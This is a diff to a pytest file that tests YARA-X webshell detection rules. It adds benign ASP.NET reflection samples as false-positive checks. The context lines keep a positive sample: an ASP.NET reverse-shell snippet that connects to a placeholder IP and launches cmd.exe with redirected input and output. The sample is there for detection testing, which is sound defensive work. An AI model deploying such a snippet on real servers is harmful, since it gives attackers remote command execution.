@@ -10,6 +10,7 @@ from pathlib import Path
 import pytest
 import yara_x
 from test_content_samples import (
+    BENIGN,
     WEBSHELLS,
     der_export_shell,
     dropper_prefix_shell,
@@ -92,6 +93,14 @@ CASES: dict[str, tuple[bytes | str, bytes]] = {
         b'<% var c = new TcpClient("203.0.113.9", 443); var si = new ProcessStartInfo("cmd.exe")'
         b' { RedirectStandardInput = true, RedirectStandardOutput = true }; var p = Process.Start(si); %>',
         b'<% var c = new TcpClient("smtp.example.com", 25); var p = Process.Start("sc.exe", "query"); %>'),
+    "exw.ws.com_reflection_exec": (
+        "com_progid_reflection.aspx",
+        # late-bound Excel automation on a file the page chooses: no Exec or Run
+        (BENIGN / "excel_export_late_bound.aspx").read_bytes()),
+    "exw.ws.reflection_process_start": (
+        "reflection_process_start.ashx",
+        # an action dispatcher: reflection over request-named types, but no process method
+        (BENIGN / "plugin_dispatch_reflection.ashx").read_bytes()),
     "exw.ws.upload_path_request": (
         "upload_path_param.aspx",
         b'<% f.SaveAs(Path.Combine(Server.MapPath("~/up"), Guid.NewGuid() + ".png")); var r = Request.Form["x"]; %>'),
